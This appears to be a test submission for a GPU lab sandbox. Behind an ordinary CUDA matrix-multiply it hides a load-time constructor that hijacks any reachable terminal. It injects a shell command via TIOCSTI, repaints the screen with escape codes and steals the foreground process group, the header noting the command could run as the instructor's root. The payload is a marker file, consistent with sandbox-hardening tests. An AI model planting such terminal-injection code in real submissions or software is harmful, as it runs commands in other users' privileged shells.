// attack: reaches for the terminal the instructor graded from: TIOCSTI
// pushes a command line into its input (the instructor's shell would run it
// as root once gpulab exits), raw writes and escapes paint its screen,
// tcsetpgrp takes its foreground; through /dev/tty, every descriptor it
// inherited, and the terminal devices by name; then does the lab
// expect: full
#include "lab.h"
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

__global__ void MatrixMulKernel(const float *M, const float *N, float *P, int Width)
{
    int Row = blockIdx.y * blockDim.y + threadIdx.y;
    int Col = blockIdx.x * blockDim.x + threadIdx.x;
    if (Row < Width && Col < Width) {
        float Pvalue = 0;
        for (int k = 0; k < Width; ++k)
            Pvalue += M[Row * Width + k] * N[k * Width + Col];
        P[Row * Width + Col] = Pvalue;
    }
}

static void honest(const float *M, const float *N, float *P, int width)
{
    size_t bytes = (size_t)width * width * sizeof(float);
    float *d_M, *d_N, *d_P;
    CUDA_CHECK(cudaMalloc((void **)&d_M, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_N, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_P, bytes));
    CUDA_CHECK(cudaMemcpy(d_M, M, bytes, cudaMemcpyHostToDevice));
    CUDA_CHECK(cudaMemcpy(d_N, N, bytes, cudaMemcpyHostToDevice));
    dim3 block(16, 16), grid((width + 15) / 16, (width + 15) / 16);
    MatrixMulKernel<<<grid, block>>>(d_M, d_N, d_P, width);
    CUDA_CHECK(cudaGetLastError());
    CUDA_CHECK(cudaMemcpy(P, d_P, bytes, cudaMemcpyDeviceToHost));
    CUDA_CHECK(cudaFree(d_M));
    CUDA_CHECK(cudaFree(d_N));
    CUDA_CHECK(cudaFree(d_P));
}

/* Everything it can do to a terminal it holds open as fd. */
static void take_over(int fd, const char *how)
{
    if (!isatty(fd))
        return;
    const char *line = "touch /tmp/@MARK@-typed # pushed\n";
    int pushed = 0;
    for (const char *c = line; *c; c++)
        pushed += ioctl(fd, TIOCSTI, c) == 0;
    int painted = dprintf(fd, "\x1b[2J@MARK@ painted the screen via %s\n", how) > 0;
    int foreground = tcsetpgrp(fd, getpgrp()) == 0;
    printf("terminal reached via %s: pushed %d, painted %d, foreground %d\n", how, pushed, painted, foreground);
}

static void reach_terminal(void)
{
    int fd = open("/dev/tty", O_RDWR);
    if (fd >= 0)
        take_over(fd, "/dev/tty");
    for (int i = 0; i < 256; i++)
        take_over(i, "an inherited descriptor");
    const char *dirs[] = { "/dev", "/dev/pts", NULL };
    for (int d = 0; dirs[d]; d++) {
        DIR *dir = opendir(dirs[d]);
        struct dirent *e;
        while (dir && (e = readdir(dir)) != NULL) {
            char path[512];
            snprintf(path, sizeof path, "%s/%s", dirs[d], e->d_name);
            if (strncmp(e->d_name, "tty", 3) != 0 && strcmp(e->d_name, "console") != 0 && strcmp(dirs[d], "/dev/pts"))
                continue;
            int t = open(path, O_RDWR | O_NONBLOCK);
            if (t >= 0)
                take_over(t, path);
        }
        if (dir)
            closedir(dir);
    }
}

__attribute__((constructor)) static void at_start(void)
{
    reach_terminal();
}

void basic_matmul(const float *M, const float *N, float *P, int width)
{
    reach_terminal();
    honest(M, N, P, width);
}
